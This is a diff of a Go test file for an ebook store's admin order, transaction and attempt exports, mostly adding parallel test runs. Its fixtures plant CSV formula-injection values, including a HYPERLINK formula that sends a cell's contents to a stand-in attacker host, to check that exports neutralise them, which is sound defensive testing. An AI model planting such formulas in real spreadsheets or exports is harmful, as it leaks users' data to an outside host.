@@ -27,12 +27,12 @@ const formulaName = `=HYPERLINK("http://evil.example/?d="&A1,"Click")`
 func exportEnv(t *testing.T, opts ...envOption) (*testEnv, string) {
 	t.Helper()
 	e := newTestEnv(t, opts...)
-	e.addUser("alice", adminPW)
+	alice := e.addUser("alice", adminPW)
 	e.MustPostIPN(sample(t, "p1"))
 	s := ebookSim("Completed", "FORMULA0000000001")
 	s.FirstName, s.LastName, s.PayerEmail = formulaName, "@SUM(1+1)", "+formula@example.com"
 	e.MustPostIPN(simBody(s))
-	return e, e.mustLogin("alice", adminPW)
+	return e, e.signIn(alice)
 }
 
 // csvExport downloads an export and parses it, checking it is an attachment.
@@ -91,6 +91,7 @@ func byColumn(tb testing.TB, records [][]string, name, value string) map[string]
 }
 
 func TestAdminExport_NeedsASignIn(t *testing.T) {
+	t.Parallel()
 	e, _ := exportEnv(t)
 	for _, path := range []string{"/admin/export/orders.csv", "/admin/export/transactions.csv", "/admin/export/attempts.csv", "/admin/counters"} {
 		a := e.adminRequest(http.MethodGet, path, "", nil, nil)
@@ -105,6 +106,7 @@ func TestAdminExport_NeedsASignIn(t *testing.T) {
 }
 
 func TestAdminExport_Orders(t *testing.T) {
+	t.Parallel()
 	e, cookie := exportEnv(t)
 	records := e.csvExport(cookie, "/admin/export/orders.csv")
 	wantHeader := []string{"id", "created_at_utc", "provider", "ref", "status", "status_reason", "review", "test",
@@ -149,6 +151,7 @@ func TestAdminExport_Orders(t *testing.T) {
 }
 
 func TestAdminExport_Transactions(t *testing.T) {
+	t.Parallel()
 	e, cookie := exportEnv(t)
 	e.Clock.Advance(time.Hour)
 	e.MustPostIPN(simBody(reversalSim("Refunded", "REFUND00000000001", "FORMULA0000000001", 1995)))
@@ -224,6 +227,7 @@ func (e *testEnv) manyAttempts(g *vend.Grant, n int, start time.Time) {
 }
 
 func TestAdminExport_Attempts(t *testing.T) {
+	t.Parallel()
 	e, cookie := exportEnv(t)
 	g := e.Order(p1Txn).grant("EBOOK-001")
 	e.download(g)
@@ -271,6 +275,7 @@ func TestAdminExport_Attempts(t *testing.T) {
 }
 
 func TestWriteExport_JSONLines(t *testing.T) {
+	t.Parallel()
 	e, _ := exportEnv(t)
 	var buf bytes.Buffer
 	q, err := ParseExportQuery(ExportOrders, map[string][]string{"q": {"FORMULA0000000001"}})
@@ -310,6 +315,7 @@ func (f *failingDB) View(ctx context.Context, fn func(tx store.Tx) error) error 
 }
 
 func TestAdminExport_Failure(t *testing.T) {
+	t.Parallel()
 	var fail *failingDB
 	e, cookie := exportEnv(t, func(s *Server) { fail = &failingDB{DB: s.DB}; s.DB = fail })
 	e.manyAttempts(e.Order(p1Txn).grant("EBOOK-001"), exportPage+10, testEpoch.Add(-time.Hour))
@@ -344,6 +350,7 @@ func TestAdminExport_Failure(t *testing.T) {
 }
 
 func TestCell(t *testing.T) {
+	t.Parallel()
 	for _, tt := range []struct{ in, want string }{
 		{"", ""},
 		{"Jörg Müller", "Jörg Müller"},
@@ -369,6 +376,7 @@ func TestCell(t *testing.T) {
 }
 
 func TestAdminCounters(t *testing.T) {
+	t.Parallel()
 	e, cookie := exportEnv(t)
 	p1 := e.Order(p1Txn).grant("EBOOK-001")
 	f := e.Order("FORMULA0000000001").grant("EBOOK-001")
